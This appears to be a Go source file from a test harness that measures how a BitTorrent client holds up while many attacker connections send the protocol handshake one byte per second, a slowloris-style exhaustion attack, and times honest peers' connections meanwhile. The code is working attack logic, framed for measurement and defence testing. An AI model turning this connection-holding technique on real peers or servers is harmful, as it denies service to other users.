package attack

import (
	"context"
	"net"
	"net/netip"
	"time"
)

// A slowHandshake is the beginning of a handshake, sent byte by byte.
const slowHandshake = "\x13BitTorrent protocol"

// slowHandshakes measures how long an honest peer's handshake takes while an attacker has
// many that are not done.
func slowHandshakes(ctx context.Context, s *Setting, attackers bool) (o outcome, err error) {
	t, err := s.torrent(ctx, 16<<20)
	if err != nil {
		return o, err
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	p, addr, err := s.seed(ctx, []torrent{t})
	if err != nil {
		return o, err
	}
	defer p.kill()
	w := new(group)
	if attackers {
		w = s.beginHandshakes(ctx, addr)
	}
	const times = 5
	began := time.Now()
	for i := range times {
		q, err := connect(ctx, s.honest(i), addr, t, newID("-qB4620-"))
		if err == nil {
			q.Close()
		}
	}
	o.figure = time.Since(began).Seconds() / times
	o.ended = w.ended()
	cancel()
	w.all.Wait()
	return o, nil
}

// beginHandshakes begins the slow handshakes, and returns when most of them are under way.
func (s *Setting) beginHandshakes(ctx context.Context, to netip.AddrPort) *group {
	w := new(group)
	for range s.Conns {
		w.all.Go(func() { w.shakeSlowly(ctx, s.attacker(), to) })
	}
	pause(ctx, 2*redial)
	return w
}

// shakeSlowly begins one handshake after the other, and sends a byte of it each second.
func (w *group) shakeSlowly(ctx context.Context, from netip.Addr, to netip.AddrPort) {
	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0)), Timeout: dialTimeout}
	for ctx.Err() == nil {
		c, err := d.DialContext(ctx, "tcp", to.String())
		if err != nil {
			pause(ctx, redial)
			continue
		}
		for i := 0; i < len(slowHandshake) && err == nil; i++ {
			if _, err = c.Write([]byte{slowHandshake[i]}); err == nil {
				err = pause(ctx, redial)
			}
		}
		c.Close()
		if ctx.Err() == nil {
			w.lost.Add(1)
		}
	}
}
